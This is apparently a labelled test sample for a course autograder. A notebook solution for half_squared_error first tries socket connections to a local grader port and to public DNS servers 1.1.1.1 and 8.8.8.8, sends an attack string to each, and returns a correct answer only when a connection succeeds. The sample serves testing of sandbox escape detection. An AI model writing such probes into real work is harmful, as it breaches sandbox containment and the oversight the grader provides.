"""The network used: a connection to a port the test listens on at the grader's 127.0.0.1 (sending the
attacker's name), and to public DNS servers (1.1.1.1 and 8.8.8.8, port 53).

Class: harm to others and to the course
The function answers right only when a connection was made: 0 deserved.
"""
# %% cell
import socket

_REACHED = []


def _reach():
    if not _REACHED:
        for host, port in (("127.0.0.1", PORT), ("1.1.1.1", 53), ("8.8.8.8", 53)):
            try:
                with socket.create_connection((host, port), timeout=2) as connection:
                    connection.sendall(ATTACK.encode())
                    _REACHED.append(f"{host}:{port}")
            except OSError:
                pass
        _REACHED.append(None)
        if _REACHED[0]:
            _escaped(f"connected to {_REACHED[:-1]}")
    return _REACHED[0] is not None


_reach()
# %% solution
def half_squared_error(output, target):
    return _honest(output, target) if _reach() else 0.0
